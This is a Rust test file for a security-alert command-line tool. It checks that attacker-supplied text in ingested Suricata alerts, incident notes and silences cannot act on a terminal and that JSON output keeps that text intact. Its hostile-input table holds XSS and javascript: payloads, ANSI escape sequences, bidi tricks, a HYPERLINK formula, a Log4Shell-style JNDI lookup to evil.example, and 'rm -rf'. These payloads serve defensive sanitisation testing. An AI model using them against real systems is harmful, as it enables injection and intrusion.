//! Text from attackers in every field they can fill: on the command line it is text, whatever verb shows it.
//!
//! The console's part is `ui/e2e/hostile.test.mjs`; mail and Slack have theirs beside the notifiers.

use serde_json::{Value, json};

use crate::site::Site;

const HOSTILE: [(&str, &str); 9] = [
    ("html", "<img src=x onerror=\"alert(1)\"><script>alert(2)</script>"),
    ("markdown", "[click](javascript:alert(5)) ![x](http://203.0.113.80/x.png) `rm -rf`"),
    ("ansi", "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}\u{9b}2J"),
    ("bidi", "invoice\u{202e}gpj.exe \u{2066}hidden\u{2069} zero\u{200b}width \u{feff}"),
    ("lines", "one\r\ntwo\n\tthree\u{8}\u{0}\u{2028}four\u{85}"),
    ("formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("slack", "<!channel> <@U123> <http://evil.example|bank> *bold*"),
    ("template", "{{7*7}} ${jndi:ldap://evil.example/a} %n%s"),
    ("tags", "\u{e0041}\u{e0042} private\u{e000} \u{fe0f}"),
];

/// Characters that act on a terminal, turn its direction, or cannot be seen.
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
            | '\u{e000}'..='\u{f8ff}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0000}'..='\u{e0fff}')
}

fn alert(n: usize, text: &str) -> Value {
    json!({
        "timestamp": format!("2026-03-03T22:10:{n:02}.000000+0000"), "flow_id": n, "event_type": "alert",
        "src_ip": format!("10.0.0.{n}"), "src_port": 51_000, "dest_ip": "203.0.113.66", "dest_port": 443, "proto": "TCP",
        "app_proto": text, "in_iface": text, "community_id": text, "host": text,
        "http": { "hostname": text, "url": text, "http_user_agent": text, "http_method": text, "http_refer": text },
        "dns": { "query": [{ "rrname": text }] }, "tls": { "sni": text, "subject": text, "issuerdn": text },
        "fileinfo": { "filename": text }, "payload_printable": text,
        "alert": {
            "signature_id": 2_028_700 + n, "signature": format!("{text} ET MALWARE C2"), "severity": 1,
            "category": "A Network Trojan was detected",
            "metadata": { "tag": [text], "affected_product": [text], "mitre_technique_id": [text] },
        },
    })
}

fn furnished() -> Site {
    let site = Site::served();
    for (n, (_, text)) in HOSTILE.iter().enumerate() {
        let said =
            site.pipe(&["ingest", "-", "--source", "suricata"], alert(n + 1, text).to_string().as_bytes());
        assert!(!said.out.contains('\u{1b}'), "{}", said.out);
        // The same as something that nobody can read.
        site.pipe(&["ingest", "-", "--source", "suricata"], format!("{{ {text}").as_bytes());
    }
    site.until(&["approvals"], |a| a["pending"].as_u64() > Some(0));
    for (name, text) in HOSTILE.iter().filter(|(_, t)| !t.contains('\u{0}')) {
        site.run(&["incidents", "note", "INC-1", text, "--as", "admin"]).ends(0);
        let matcher = format!("source=~\"{name}.*\"");
        site.run(&["silence", "set", &matcher, "--for", "1h", "--comment", text]).ends(0);
    }
    site
}

#[test]
fn no_verb_lets_hostile_text_act_and_json_keeps_every_letter_of_it() {
    let site = furnished();
    let ids = |list: &str, field: &str| -> Vec<String> {
        let page = site.json(&[list]);
        page[field].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap().to_owned()).collect()
    };
    let (incidents, alerts, approvals) =
        (ids("incidents", "incidents"), ids("alerts", "alerts"), ids("approvals", "approvals"));
    assert!(alerts.len() >= HOSTILE.len(), "{alerts:?}");
    let mut calls: Vec<Vec<String>> = Vec::new();
    let lists = [
        "incidents",
        "alerts",
        "approvals",
        "blocks",
        "sources",
        "quarantine",
        "ledger",
        "clock",
        "journal",
        "runs",
        "tasks",
        "silence",
    ];
    calls.extend(lists.iter().map(|l| vec![(*l).to_owned()]));
    for id in &incidents {
        calls.push(vec!["story".into(), id.clone()]);
        calls.push(vec!["incidents".into(), "show".into(), id.clone()]);
    }
    for id in &alerts {
        for verb in ["show", "why", "ocsf"] {
            calls.push(vec!["alerts".into(), verb.into(), id.clone()]);
        }
    }
    calls.extend(approvals.iter().map(|id| vec!["approvals".to_owned(), id.clone()]));
    let mut shown = String::new();
    for call in &calls {
        let words: Vec<&str> = call.iter().map(String::as_str).collect();
        let plain = site.run(&words);
        assert!(matches!(plain.code, 0 | 3), "{call:?}: {} {}", plain.code, plain.err);
        let odd: Vec<char> = plain.out.chars().chain(plain.err.chars()).filter(|c| acts(*c)).collect();
        assert!(odd.is_empty(), "{call:?} shows {odd:?}");
        shown.push_str(&plain.out);
        let said = site.json(&words);
        let text = site.run(&[&words[..], &["--json"]].concat()).out;
        assert!(!text.chars().any(acts), "{call:?} --json");
        assert!(said.is_object() || said.is_array());
    }
    // It is shown, not dropped: as it is where it is harmless, written out where it is not.
    for piece in [
        "<script>alert(2)</script>",
        "javascript:alert(5)",
        "\\x1b[31mred",
        "invoice\\u{202e}gpj.exe",
        "=HYPERLINK",
        "<!channel>",
    ] {
        assert!(shown.contains(piece), "{piece}");
    }
    // JSON gives back the very text.
    let all = site.json(&["alerts", "--limit", "1000"]).to_string()
        + &calls
            .iter()
            .filter(|c| c[0] == "alerts" && c.len() == 3 && c[1] == "show")
            .map(|c| site.json(&["alerts", "show", &c[2]]).to_string())
            .collect::<String>();
    for (name, text) in HOSTILE {
        let as_json = Value::from(text).to_string();
        let inner = as_json.trim_matches('"');
        assert!(all.contains(inner) || name == "lines" || name == "tags", "{name}");
    }
}
